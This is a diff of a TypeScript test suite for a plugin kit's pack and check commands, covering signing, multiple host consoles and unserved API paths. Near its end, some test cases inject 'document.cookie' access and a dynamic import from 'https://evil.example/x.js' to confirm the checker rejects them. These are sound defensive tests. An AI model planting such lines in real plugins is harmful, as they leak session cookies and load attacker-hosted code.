@@ -55,6 +55,23 @@ test('the guide\'s own commands make a signed plugin that a console takes', asyn
   expect(taken.plugin.files.map(({ path }) => path).every((path) => /-[\w-]{8}\.js$/.test(path)), 'names carry the hash of their content').toBe(true);
 });
 
+test('a plugin is packed without a signature on purpose only', async () => {
+  const plugin = join(folder, 'open-quotes');
+  createPlugin(plugin, {});
+  expect((await kit('build', plugin)).code).toBe(0);
+  const out = join(folder, 'open-quotes.zip');
+  expect((await kit('pack', plugin, '--out', out)).code).toBe(2);
+  expect((await kit('pack', plugin, '--unsigned', '--key', 'any.pem', '--out', out)).code).toBe(2);
+  expect(await kit('pack', plugin, '--unsigned', '--out', out)).toEqual({ code: 0, said: out });
+  const taken = verifyArchive(new Uint8Array(readFileSync(out)), fitting(listOf(plugin)));
+  expect([taken.plugin.manifest.id, taken.publicKey]).toEqual(['open-quotes', undefined]);
+});
+
+test('the guide shows the verification of a token as the kit gives it', () => {
+  const [, block] = /```js\n([\s\S]*?)```/.exec(readFileSync(join(root, 'docs/partner-plugins.md'), 'utf8')) ?? [];
+  expect(readFileSync(join(root, 'host/kit/template/server/verify-token.js'), 'utf8')).toContain(block);
+});
+
 test('the fixture of the journeys is what the kit makes today', () => {
   const made = join(folder, 'north-quotes');
   createPlugin(made, {});
@@ -78,6 +95,14 @@ describe('check names what a console would refuse', () => {
     expect(code).toBe(said.includes('it links') ? 0 : 1);
     return said;
   }
+  test('of several consoles the one that would refuse', async () => {
+    expect(await checked('two-hosts', () => undefined)).toContain('it links');
+    const older = join(folder, 'older.json');
+    writeFileSync(older, JSON.stringify({ ...shared, modules: { ...shared.modules, 'react@19': { url: '/x.js', exports: [] } } }));
+    const { code, said } = await kit('check', join(folder, 'two-hosts'), '--host', address(), '--host', older);
+    expect([code, said.split('\n').length]).toEqual([1, 1]);
+    expect(said).toMatch(/^exportMissing: react@19#\w+.* \(.*older\.json\)$/);
+  });
   const edit = (file: string, from: string, to: string) => (plugin: string): void => {
     const text = readFileSync(join(plugin, file), 'utf8');
     expect(text).toContain(from);
@@ -93,6 +118,11 @@ describe('check names what a console would refuse', () => {
       edit(store, 'import { makeAutoObservable }', "import axios from 'axios';\nimport { makeAutoObservable }")(plugin);
       edit(store, 'this.quotes = [...', 'void axios.get("/"); this.quotes = [...')(plugin);
     })).toBe('sharedBundled: axios');
+  });
+  test('a call that the manifest does not serve, or of somebody else\'s service', async () => {
+    expect(await checked('not-served', edit('plugin.ts', "serves: { rate: 'not-served.book:view' },", ''))).toBe('pathUnserved: /api/partner/not-served/rate');
+    expect(await checked('of-others', edit('contract/rate.ts', '/api/partner/of-others/rate', '/api/partner/other-plugin/rate'))).toBe('pathUnserved: /api/partner/other-plugin/rate');
+    expect(await checked('key-less', edit('plugin.ts', "serves: { rate: 'key-less.book:view' }", "serves: { rate: 'key-less.book:sell' }"))).toMatch(/^manifestWrong: key-less\.book:sell/);
   });
   test('forbidden code', async () => { expect(await checked('with-cookie', edit(store, 'this.quotes = [...', 'document.cookie; this.quotes = [...'))).toMatch(/^forbiddenCode: cookie/); });
   test('code from elsewhere', async () => { expect(await checked('from-afar', edit(store, 'this.quotes = [...', 'void import(/* @vite-ignore */ "https://evil.example/x.js"); this.quotes = [...'))).toBe('foreignOrigin: https://evil.example/x.js'); });
